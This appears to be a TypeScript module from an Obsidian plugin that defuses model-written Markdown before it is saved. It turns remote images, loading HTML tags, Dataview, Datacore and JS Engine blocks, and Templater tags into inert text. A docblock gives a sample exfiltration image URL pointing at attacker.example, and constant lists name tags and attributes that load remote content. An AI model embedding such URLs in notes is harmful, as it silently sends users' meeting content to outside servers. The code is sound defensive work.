import { type MarkdownNode, parseMarkdown } from './parse-markdown.js';

/**
 * One piece of model-written Markdown that {@link defuseRemoteContent} made inert.
 * Spec: review6 S17 (remote images in model-written notes: an exfiltration channel); review7 T1;
 *   docs/hostile-cases.md S17.
 */
export interface DefusedItem {
  /**
   * `image`: a Markdown image (`![alt](https://…)`) now a plain link; `reference`: the definition
   * (`[ref]: https://…`) of a reference-style image (`![x][ref]`) escaped, so the image shows as text (with
   * `partial`: an image whose label the text does not define, its `!` escaped, L600);
   * `html`: an HTML tag that loads something (`<img>`, `<iframe>`, `<video>`, `src=`/`style=` …) escaped
   * to show as text; `query`: a ```` ```dataviewjs ````/```` ```dataview ```` block renamed so no plugin runs it;
   * `inline-query`: a Dataview inline query (code whose text starts with `$=` or `=`: an inline code span, a
   * code block, an HTML `<code>`) whose prefix was escaped with a backslash (`` `\$= …` ``), so it shows as code;
   * `template`: a Templater command tag (`<% … %>`, `<%* … %>`), anywhere, code included, escaped as `<\%` so the
   * plugin never runs it when the note is created (review8 U18).
   */
  kind: 'image' | 'reference' | 'html' | 'query' | 'inline-query' | 'template';
  /** The item as it was written, cut to 80 characters. */
  written: string;
}

/** Tags whose element loads or runs something when Obsidian renders the note, whatever their attributes. */
const LOADING_TAGS = new Set([
  'img',
  'image',
  'picture',
  'source',
  'srcset',
  'video',
  'audio',
  'track',
  'iframe',
  'frame',
  'frameset',
  'embed',
  'object',
  'applet',
  'link',
  'meta',
  'base',
  'style',
  'script',
  'svg',
  'use',
  'feimage',
  'input',
  'form',
  'portal',
  'webview',
]);

/** An attribute name that makes any element load something (an image, a background, a stylesheet URL). */
const LOADING_ATTRIBUTES = new Set([
  'src',
  'srcset',
  'background',
  'poster',
  'data',
  'lowsrc',
  'dynsrc',
  'xlink:href',
  'style',
  'formaction',
]);

/**
 * The start of a Dataview inline query in code text (after its leading white space): `$=` (DataviewJS,
 * runs JavaScript) or `=` (DQL, whose value Dataview renders as Markdown, so it can compose a remote image
 * from other notes' fields). Dataview's default prefixes; it evaluates any `<code>` whose trimmed text
 * starts with one, in inline code and (by default) in code blocks alike.
 */
const INLINE_QUERY = /^\s*(?:\$=|=)/;

/**
 * The language (first word of a fence's info string) of a code block a plugin runs when the note is shown:
 * Dataview (`dataview`, `dataviewjs`), Datacore (`datacorejs`, `datacorejsx`, `datacorets`, `datacoretsx`) and
 * JS Engine (`js-engine`) (review8 U18).
 */
const QUERY_LANGUAGE = /^(?:dataviewjs|dataview|datacorejsx?|datacoretsx?|js-engine)(?![\w-])/i;

/**
 * A Templater command tag's opening (`<%`, `<%*`, `<%-`, `<%_`): Templater runs the commands of every new note
 * outside its templates folder when "Trigger Templater on new file creation" is on, whatever Markdown says (code
 * blocks included), so it is looked for in the raw text.
 */
const TEMPLATE_TAG = /<%/g;

/**
 * Whether an image destination, as Markdown reads it (unescaped, entities decoded), may load from
 * outside the vault: a URL scheme (`https:`, `ftp:`, also `https:\\`), or a protocol-relative
 * `//host` / `\\host`. A one-letter scheme is a Windows drive (`C:/…`), local.
 * @param target - a destination or URL as written after decoding
 * @returns true when it may load from another machine
 * Spec: review6 S17; review7 T1.
 */
export function isRemoteTarget(target: string): boolean {
  const t = target.trim();
  if (/^[\\/]{2}/.test(t) || t.includes('&')) return true;
  const colon = t.indexOf(':');
  return colon > 1 || (colon === 1 && !/^[a-z]:[\\/]/i.test(t));
}

/** `text` cut to 80 characters for a message. */
function cut(text: string): string {
  const one = text.replace(/\s+/g, ' ');
  return one.length > 80 ? `${one.slice(0, 79)}…` : one;
}

/**
 * The link text part of a Markdown image as written (`![alt](…)` → `alt`), brackets and escapes
 * as written, and the rest after its `]`.
 */
function splitImage(written: string): { inner: string; rest: string } {
  let depth = 0;
  for (let i = 1; i < written.length; i++) {
    const ch = written[i];
    if (ch === '\\') i++;
    else if (ch === '[') depth++;
    else if (ch === ']' && --depth === 0) return { inner: written.slice(2, i), rest: written.slice(i + 1) };
  }
  return { inner: '', rest: written.slice(1) };
}

/** `host/path` of a URL for a link's text, or `remote image`. */
function where(target: string): string {
  try {
    const url = new URL(target.trim().replace(/^[\\/]{2}/, 'https://'));
    return `${url.host}${url.pathname === '/' ? '' : url.pathname}`.replace(/[[\]\\]/g, '') || 'remote image';
  } catch {
    return 'remote image';
  }
}

/** One HTML start tag found in raw HTML: its offset (of `<`), its source, name and attribute names (lower case). */
interface StartTag {
  at: number;
  source: string;
  name: string;
  attributes: string[];
}

/**
 * The start tags in `html` as a browser's tokenizer reads them (HTML's tag open, attribute name and
 * value states): `<` then a letter opens a tag; `/` and white space separate attributes (`<img/src=…>`);
 * quoted values may hold `<` and `>` (`alt="a<b"`); a tag not closed by `>` runs to the end.
 * Comments, `<!…>` and `<?…>` are skipped; end tags are not returned.
 */
function startTags(html: string, base: number): StartTag[] {
  const tags: StartTag[] = [];
  let i = 0;
  while (i < html.length) {
    const lt = html.indexOf('<', i);
    if (lt < 0) break;
    if (html.startsWith('<!--', lt)) {
      const end = html.indexOf('-->', lt + 4);
      i = end < 0 ? html.length : end + 3;
      continue;
    }
    if (!/[a-zA-Z]/.test(html.charAt(lt + 1))) {
      i = lt + 1;
      continue;
    }
    let j = lt + 1;
    while (j < html.length && !/[\s/>]/.test(html.charAt(j))) j++;
    const name = html.slice(lt + 1, j).toLowerCase();
    const attributes: string[] = [];
    for (;;) {
      while (j < html.length && /[\s/]/.test(html.charAt(j))) j++;
      if (j >= html.length || html.charAt(j) === '>') break;
      const nameStart = j;
      j++; // an attribute name may start with `=` (HTML: a parse error, taken as part of the name)
      while (j < html.length && !/[\s/>=]/.test(html.charAt(j))) j++;
      attributes.push(html.slice(nameStart, j).toLowerCase());
      while (j < html.length && /\s/.test(html.charAt(j))) j++;
      if (html.charAt(j) !== '=') continue;
      j++;
      while (j < html.length && /\s/.test(html.charAt(j))) j++;
      const quote = html.charAt(j);
      if (quote === '"' || quote === "'") {
        const close = html.indexOf(quote, j + 1);
        j = close < 0 ? html.length : close + 1;
      } else while (j < html.length && !/[\s>]/.test(html.charAt(j))) j++;
    }
    const end = Math.min(j + 1, html.length);
    tags.push({ at: base + lt, source: html.slice(lt, end), name, attributes });
    i = end;
  }
  return tags;
}

/** Whether a start tag loads or runs something when rendered. */
function loads(tag: StartTag): boolean {
  return LOADING_TAGS.has(tag.name) || tag.attributes.some((a) => LOADING_ATTRIBUTES.has(a));
}

/** One change to the text: `[from, to)` replaced with `insert`. */
interface Edit {
  from: number;
  to: number;
  insert: string;
}

/** A found item: what it is, how to make it inert, and its key for `keep` (the same key: the file held it). */
interface Found {
  kind: DefusedItem['kind'];
  written: string;
  key: string;
  edit: Edit;
}

/** Every node of `root`, depth first, in document order. */
function* walk(root: MarkdownNode): Generator<MarkdownNode> {
  yield root;
  for (const child of root.children ?? []) yield* walk(child);
}

/** Offset of the first character at or after `from` that is neither white space nor a block-quote marker. */
function skipContainer(text: string, from: number, to: number): number {
  let i = from;
  while (i < to && /[\s>]/.test(text.charAt(i))) i++;
  return i;
}

/**
 * L600: the reference-style images (`![x][ref]`, `![ref][]`, `![ref]`) in `text`, a part of a note, whose
 * label `text` does not define: a definition anywhere else in the note (`[ref]: https://…`, a user's plain
 * link's) makes each a remote image when the whole note is shown. Each `!` is escaped (`\![x][ref]`: a link,
 * which loads nothing). Looked for in paragraphs, headings and table cells; in code spans and a `!` already
 * escaped it is not an image.
 */
function undefinedImageReferences(text: string, nodes: readonly MarkdownNode[]): Found[] {
  const defined = new Set(nodes.filter((n) => n.type === 'definition').map((n) => n.identifier ?? ''));
  const images = new Set(nodes.filter((n) => n.type === 'image').map((n) => n.position?.start.offset));
  const code = nodes
    .filter((n) => n.type === 'inlineCode')
    .map((n) => [n.position?.start.offset ?? 0, n.position?.end.offset ?? 0] as const);
  const found: Found[] = [];
  for (const n of nodes) {
    const s = n.position?.start.offset;
    const e = n.position?.end.offset;
    if (!['paragraph', 'heading', 'tableCell'].includes(n.type) || s === undefined || e === undefined)
      continue;
    for (const m of text.slice(s, e).matchAll(/!\[((?:[^\][\\]|\\.)*)\](?:\[((?:[^\][\\]|\\.)*)\])?/g)) {
      const at = s + (m.index ?? 0);
      const label = (m[2] !== undefined && m[2].trim() !== '' ? m[2] : (m[1] ?? ''))
        .replace(/\s+/g, ' ')
        .trim();
      if (label === '' || images.has(at) || defined.has(label.toLowerCase())) continue;
      if (code.some(([from, to]) => at >= from && at < to)) continue;
      if (/(^|[^\\])(\\\\)*\\$/.test(text.slice(s, at))) continue;
      found.push({
        kind: 'reference',
        written: cut(m[0]),
        key: `undefined-reference ${label.toLowerCase()}`,
        edit: { from: at, to: at, insert: '\\' },
      });
    }
  }
  return found;
}

/**
 * Everything in `text` (parsed as CommonMark + GFM) that loads from the web or runs when Obsidian
 * shows it, with the edit that makes each inert. Loading HTML is looked for in HTML nodes and, as a
 * second line of defence for renderers laxer than CommonMark, in plain text too (a `<` escaped with
 * a backslash excepted); never in code.
 */
function findItems(text: string, root: MarkdownNode, partial = false): Found[] {
  const found: Found[] = [];
  const nodes = [...walk(root)];
  if (partial) found.push(...undefinedImageReferences(text, nodes));
  const imageLabels = new Set(
    nodes.filter((n) => n.type === 'imageReference').map((n) => n.identifier ?? ''),
  );
  // Unresolved references stay text in the tree: their labels count for the swallowed definitions below.
  for (const n of nodes) {
    const s = n.position?.start.offset;
    const e = n.position?.end.offset;
    if (n.type !== 'paragraph' || s === undefined || e === undefined) continue;
    for (const m of text.slice(s, e).matchAll(/!\[((?:[^\][\\]|\\.)*)\](?:\[((?:[^\][\\]|\\.)*)\])?/g)) {
      const label = m[2] !== undefined && m[2].trim() !== '' ? m[2] : (m[1] ?? '');
      if (label.trim() !== '') imageLabels.add(label.replace(/\s+/g, ' ').trim().toLowerCase());
    }
  }
  for (const node of nodes) {
    const from = node.position?.start.offset;
    const to = node.position?.end.offset;
    if (from === undefined || to === undefined) continue;
    const source = text.slice(from, to);
    if (node.type === 'image' && isRemoteTarget(node.url ?? '')) {
      const { inner, rest } = splitImage(source);
      const label = inner.trim() === '' ? `image: ${where(node.url ?? '')}` : inner;
      found.push({
        kind: 'image',
        written: cut(source),
        key: `image ${node.url}`,
        edit: { from, to, insert: `[${label}]${rest}` },
      });
    } else if (
      node.type === 'definition' &&
      imageLabels.has(node.identifier ?? '') &&
      isRemoteTarget(node.url ?? '')
    ) {
      found.push({
        kind: 'reference',
        written: cut(source),
        key: `reference ${node.identifier} ${node.url}`,
        edit: { from, to: from, insert: '\\' },
      });
    } else if (node.type === 'paragraph') {
      // A definition line a paragraph swallowed (no blank line before it) does not resolve in
      // CommonMark; escaped all the same, for renderers that read it as a definition.
      for (const m of source.matchAll(/(^|\n)([ \t>]*)\[((?:[^\][\\]|\\.){1,999})\]:[ \t]*(\S+)/g)) {
        const label = (m[3] ?? '').replace(/\s+/g, ' ').trim().toLowerCase();
        const url = (m[4] ?? '').replace(/^<|>$/g, '');
        if (!imageLabels.has(label) || !isRemoteTarget(url)) continue;
        const at = from + (m.index ?? 0) + (m[1] ?? '').length + (m[2] ?? '').length;
        found.push({
          kind: 'reference',
          written: cut(m[0].trim()),
          key: `reference ${label} ${url}`,
          edit: { from: at, to: at, insert: '\\' },
        });
      }
    } else if (node.type === 'html' || node.type === 'text') {
      for (const tag of startTags(source, from)) {
        if (node.type === 'text' && /(^|[^\\])(\\\\)*\\$/.test(text.slice(from, tag.at))) continue;
        const edit = { from: tag.at, to: tag.at + 1, insert: '&lt;' };
        if (loads(tag))
          found.push({ kind: 'html', written: cut(tag.source), key: `html ${tag.source}`, edit });
        else if (
          tag.name === 'code' &&
          INLINE_QUERY.test(text.slice(tag.at + tag.source.length).replace(/^(?:\s|<[^<>]*>)*/, ''))
        )
          found.push({ kind: 'inline-query', written: cut(tag.source), key: `code ${tag.source}`, edit });
      }
    } else if (node.type === 'inlineCode' && INLINE_QUERY.test(node.value ?? '')) {
      const at = skipContainer(text, from + (/^`+/.exec(source)?.[0].length ?? 0), to);
      found.push({
        kind: 'inline-query',
        written: cut(source),
        key: `inline-query ${node.value}`,
        edit: { from: at, to: at, insert: '\\' },
      });
    } else if (node.type === 'code') {
      const fenced = /^[`~]{3,}/.exec(source);
      if (fenced !== null && QUERY_LANGUAGE.test(node.lang ?? '')) {
        const at =
          from + fenced[0].length + (/^[ \t]*/.exec(source.slice(fenced[0].length))?.[0].length ?? 0);
        found.push({
          kind: 'query',
          written: cut(source.split('\n')[0] ?? ''),
          key: `query ${node.lang} ${node.value}`,
          edit: { from: at, to: at, insert: 'defused-' },
        });
      } else if (INLINE_QUERY.test(node.value ?? '')) {
        const contentFrom = fenced === null ? from : from + source.indexOf('\n') + 1;
        const at = skipContainer(text, contentFrom, to);
        if (/^(?:\$=|=)/.test(text.slice(at, at + 2)))
          found.push({
            kind: 'inline-query',
            written: cut(text.slice(at, text.indexOf('\n', at) < 0 ? to : text.indexOf('\n', at))),
            key: `inline-query ${node.value}`,
            edit: { from: at, to: at, insert: '\\' },
          });
      }
    }
  }
  for (const m of text.matchAll(TEMPLATE_TAG)) {
    const at = m.index ?? 0;
    const close = text.indexOf('%>', at + 2);
    const tag = text.slice(at, close < 0 ? Math.min(text.length, at + 80) : close + 2);
    found.push({
      kind: 'template',
      written: cut(tag),
      key: `template ${tag}`,
      edit: { from: at + 1, to: at + 1, insert: '\\' },
    });
  }
  return found;
}

/** `text` with `edits` applied (sorted; an edit overlapping an earlier one is left for the next pass). */
function applyEdits(text: string, edits: Edit[]): string {
  const sorted = [...edits].sort((a, b) => a.from - b.from || a.to - b.to);
  let out = '';
  let at = 0;
  for (const e of sorted) {
    if (e.from < at) continue;
    out += text.slice(at, e.from) + e.insert;
    at = e.to;
  }
  return out + text.slice(at);
}

/** How many parse-and-rewrite passes at most (a rewrite can uncover a second item: a duplicate definition, an image in an image's text). */
const MAX_PASSES = 8;

/**
 * Makes model-written Markdown inert in Obsidian before it is written into the vault: nothing in it
 * may load from the web (or run) when the note is shown, since a URL the model writes can carry
 * meeting content to any server (`![](https://attacker.example/p.png?q=<decisions>)`), from every
 * device the vault syncs to, with no click. The text is PARSED (CommonMark + GFM, `micromark`, loaded
 * on the first call), so every form Markdown renders is found wherever it is (in block quotes and
 * callouts, list items, tables, footnotes; not in code spans or code blocks); only the found items'
 * source ranges are rewritten, every other byte stays. Keeps the text readable:
 * - a remote Markdown image `![alt](https://…)` becomes the plain link `[alt](https://…)`
 *   (`[image: host/path](…)` when it had no alt text); local images (`![](diagram.png)`) and
 *   `![[embeds]]` stay;
 * - a reference-style image (`![x][ref]`, `![ref][]`, `![ref]`) whose definition `[ref]: https://…`
 *   is remote: every such definition is escaped (`\[ref]: …`), so both read as text;
 * - an HTML start tag (HTML's own tokenizing: `<img/src=…>`, `alt="a<b"`) of an element that loads
 *   or runs something (`<img>`, `<iframe>`, `<video>`, `<audio>`, `<source>`, `<object>`, `<embed>`,
 *   `<link>`, `<style>`, `<svg>`, …) or with an attribute that does (`src`, `srcset`, `background`,
 *   `poster`, `data`, `style`, …): its `<` becomes `&lt;`, so the tag shows as text;
 * - a ```` ```dataviewjs ```` / ```` ```dataview ```` code block (run by the Dataview plugin when shown), or a
 *   Datacore (```` ```datacorejsx ```` …) or JS Engine (```` ```js-engine ````) block, also inside a callout or a
 *   list item: its language gets the prefix `defused-` (`defused-dataviewjs`);
 * - a Templater command tag `<% … %>` / `<%* … %>`, anywhere (Templater ignores Markdown, code included): its
 *   `<%` becomes `<\%` (shown as `<%` outside code), so the plugin never runs it on a new note (review8 U18);
 * - a Dataview inline query, i.e. code whose text starts with `$=` (JavaScript) or `=` (DQL; its value is
 *   rendered as Markdown, so it can build a remote image from other notes): an inline code span
 *   (`` `$= dv.…` `` → `` `\$= dv.…` ``), the first line of a code block, an HTML `<code>` (its `<`
 *   becomes `&lt;`). Dataview's default prefixes; a vault that configured other prefixes is not covered.
 * Rewritten text is parsed again until nothing is left (a second definition of the same label, an
 * image in an image's text). Line count and line breaks never change, so line numbers of a write stay
 * valid. Idempotent; never throws for any text. Cost (issue #13): a text holding none of `<`, `!`, `=`, a
 * fence or an indented line is not parsed; otherwise `text` is parsed once per pass and `keep` once, only
 * when `text` holds an item (the last `keep` parsed is remembered), and a call repeating the last call's
 * `text` and `keep` returns its answer again without parsing (the function is pure).
 *
 * @param text - Markdown the model wrote (a summary body, context notes, a project file, a saved prompt)
 * @param opts - `keep`: the file's text before the write (a user's own images there stay): an item
 *   whose parsed form the old text already held as such (the same image URL as an image, the same
 *   definition of an image, the same loading tag, the same Dataview block or query) is left alone,
 *   wherever it is now; text the old file held only as code or plain text is no such item (review7 T1);
 *   `partial`: `text` is a part of a note (a streamed write's lines and the 64 KiB around them), so a
 *   reference-style image whose label `text` does not define is defused too (`\![x][ref]`), since a
 *   definition elsewhere in the note would make it load (L600)
 * @returns the defused text and the items changed, in order (empty: `text` unchanged)
 * Spec: review6 S17; review7 T1 (a Markdown parse, not a regex pass); docs/hostile-cases.md S17; the
 *   offline engine's rule (transcript embeds become links, tags dropped) applied to every write of model text.
 */
export async function defuseRemoteContent(
  text: string,
  opts: { keep?: string; partial?: boolean } = {},
): Promise<{ text: string; defused: DefusedItem[] }> {
  const keep = opts.keep ?? '';
  const partial = opts.partial === true;
  if (!/[<!=]|```|~~~|^( {4}|\t)/m.test(text)) return { text, defused: [] };
  // Issue #13: a write checks the same text twice (its plan, then the atomic edit on the file it
  // read again): the last answer is reused, and the old text is parsed once, only when it matters.
  if (last !== undefined && last.text === text && last.keep === keep && last.partial === partial)
    return { text: last.result.text, defused: [...last.result.defused] };
  const parse = await parseMarkdown();
  const result = defuseParsed(text, keep, parse, partial);
  last = { text, keep, partial, result };
  return { text: result.text, defused: [...result.defused] };
}

/** The last call of {@link defuseRemoteContent} (its text, its `keep`, its answer): a repeated call is not parsed again. */
let last:
  | { text: string; keep: string; partial: boolean; result: { text: string; defused: DefusedItem[] } }
  | undefined;

/** The last `keep` text parsed and the keys of its items (a range write defuses twice against the same `keep`). */
let lastKept: { keep: string; partial: boolean; keys: Set<string> } | undefined;

/** The keys of the items `keep` holds, parsed once for the same `keep` (empty: nothing kept). */
function keptKeys(keep: string, parse: (text: string) => MarkdownNode, partial: boolean): Set<string> {
  if (keep === '') return new Set();
  if (lastKept?.keep !== keep || lastKept.partial !== partial)
    lastKept = { keep, partial, keys: new Set(findItems(keep, parse(keep), partial).map((f) => f.key)) };
  return lastKept.keys;
}

/** {@link defuseRemoteContent} once the parser is loaded; `keep` is parsed only when `text` holds an item. */
function defuseParsed(
  text: string,
  keep: string,
  parse: (text: string) => MarkdownNode,
  partial: boolean,
): { text: string; defused: DefusedItem[] } {
  const defused: DefusedItem[] = [];
  let kept: Set<string> | undefined;
  let current = text;
  for (let pass = 0; pass < MAX_PASSES; pass++) {
    const items = findItems(current, parse(current), partial);
    kept ??= items.length === 0 ? undefined : keptKeys(keep, parse, partial);
    const found = kept === undefined ? items : items.filter((f) => !kept?.has(f.key));
    if (found.length === 0) return { text: defused.length === 0 ? text : current, defused };
    for (const f of found) defused.push({ kind: f.kind, written: f.written });
    current = applyEdits(
      current,
      found.map((f) => f.edit),
    );
  }
  // Never reached by any text seen: every `<` shown as text and every image mark dropped.
  return { text: current.replace(/</g, '&lt;').replace(/!\[/g, '[').replace(/<%/g, '<\\%'), defused };
}

/**
 * The clause a write's result (or a run's warning) adds when {@link defuseRemoteContent} changed
 * something: how many of each kind, the first one, why, and that they are now plain text/links;
 * `''` for none.
 * Spec: review6 S17 (say what was defused, so the model and the user know why the text differs).
 * @param defused - the items of one write
 * @returns e.g. `defused 2 items Obsidian would load from the web when the note is shown (1 remote image, 1 HTML tag; first: "<img src=…>"): written as plain links and text, which load nothing`
 */
export function defusedNotice(defused: readonly DefusedItem[]): string {
  if (defused.length === 0) return '';
  const kinds: Record<DefusedItem['kind'], [string, string]> = {
    image: ['remote image', 'remote images'],
    reference: ['reference to a remote image', 'references to remote images'],
    html: ['HTML tag', 'HTML tags'],
    query: ['Dataview query block', 'Dataview query blocks'],
    template: ['Templater command', 'Templater commands'],
    'inline-query': ['Dataview inline query', 'Dataview inline queries'],
  };
  const counts = new Map<DefusedItem['kind'], number>();
  for (const d of defused) counts.set(d.kind, (counts.get(d.kind) ?? 0) + 1);
  const parts = [...counts].map(([k, n]) => `${n} ${kinds[k][n === 1 ? 0 : 1]}`);
  const n = defused.length;
  return `defused ${n} item${n === 1 ? '' : 's'} Obsidian would load from the web or run when the note is shown (${parts.join(', ')}; first: ${JSON.stringify(defused[0]?.written)}): written as plain links and text, which load nothing (a URL in a note can carry meeting content to its server)`;
}
